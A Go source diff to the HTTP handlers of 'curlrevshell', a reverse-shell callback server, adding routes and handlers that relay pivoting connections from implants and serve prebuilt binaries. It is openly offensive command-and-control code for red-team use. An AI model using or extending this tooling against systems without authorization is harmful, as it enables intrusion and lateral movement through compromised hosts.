@@ -5,7 +5,7 @@ package hsrv
  * HTTP handlers
  * By J. Stuart McMurray
  * Created 20240324
- * Last Modified 20241013
+ * Last Modified 20261016
  */
 
 import (
@@ -14,6 +14,8 @@ import (
 	"net/http"
 	"os"
 	"testing"
+
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
 )
 
 // Log messages and keys.
@@ -49,6 +51,20 @@ func (s *Server) newMux() *http.ServeMux {
 	mux.HandleFunc("/io/", s.inOutHandler)              /* Shell I//O. */
 	mux.HandleFunc("/c", s.scriptHandler)               /* Callback script. */
 
+	/* Pivoting, if we're doing that. */
+	if nil != s.pv {
+		mux.HandleFunc(simpleshell.PivotPath, s.pivotHandler)
+		mux.HandleFunc(
+			simpleshell.PivotPath+"/{"+idParam+"}",
+			s.pivotStreamHandler,
+		)
+	}
+
+	/* Prebuilt binaries, if we have them. */
+	if "" != s.bdir {
+		mux.HandleFunc("/b/{"+nameParam+"}", s.binaryHandler)
+	}
+
 	/* If we're serving static files, do that. */
 	if "" != s.fdir {
 		mux.HandleFunc("/", s.fileHandler)
@@ -139,6 +155,23 @@ func (s *Server) inOutHandler(w http.ResponseWriter, r *http.Request) {
 	)
 }
 
+// pivotHandler sends pivoting instructions to an implant.
+func (s *Server) pivotHandler(w http.ResponseWriter, r *http.Request) {
+	s.pv.ConnectControl(r.Context(), s.requestLogger(r), remoteHost(r), w)
+}
+
+// pivotStreamHandler handles a connection made by an implant for pivoting.
+func (s *Server) pivotStreamHandler(w http.ResponseWriter, r *http.Request) {
+	s.pv.ConnectStream(
+		r.Context(),
+		s.requestLogger(r),
+		w,
+		r.Body,
+		r.PathValue(idParam),
+		r.Header,
+	)
+}
+
 // requestLogger returns a log.Logger which has information about r.
 func (s *Server) requestLogger(r *http.Request) *slog.Logger {
 	/* Work out the SNI, which may or may not exyist. */